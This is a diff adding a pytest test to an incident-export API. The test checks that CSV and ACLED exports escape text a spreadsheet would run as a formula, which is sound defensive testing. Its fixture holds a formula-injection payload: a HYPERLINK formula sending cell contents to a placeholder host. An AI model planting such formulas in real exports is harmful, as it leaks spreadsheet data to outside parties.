@@ -121,3 +121,21 @@ def test_an_acled_export_imports_back_unchanged_in_substance(world, incidents, t
 def test_an_unknown_export_format_is_a_400(world):
     response, _ = _get(world.analyst, "/api/v1/incidents/export/xlsx/")
     assert response.status_code == 400
+
+
+@pytest.mark.parametrize("fmt", ["csv", "acled"])
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(world, fmt):
+    # A title typed into a community SMS or a field report reaches an analyst's spreadsheet.
+    IncidentFactory(
+        site=world.site_a,
+        title='=HYPERLINK("http://example.invalid/?"&A1,"open")',
+        perpetrator_actor="@SUM(1+1)",
+        longitude=-9.49,
+        classification=0,
+    )
+    _, body = _get(world.analyst, f"/api/v1/incidents/export/{fmt}/")
+    rows = list(csv.DictReader(io.StringIO(body)))[1:]  # after the HXL row
+    assert rows[0]["actor" if fmt == "csv" else "actor1"] == "'@SUM(1+1)"
+    if fmt == "acled":  # the title travels as ACLED's notes
+        assert rows[0]["notes"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    assert float(rows[0]["longitude"]) == -9.49  # numbers keep their sign
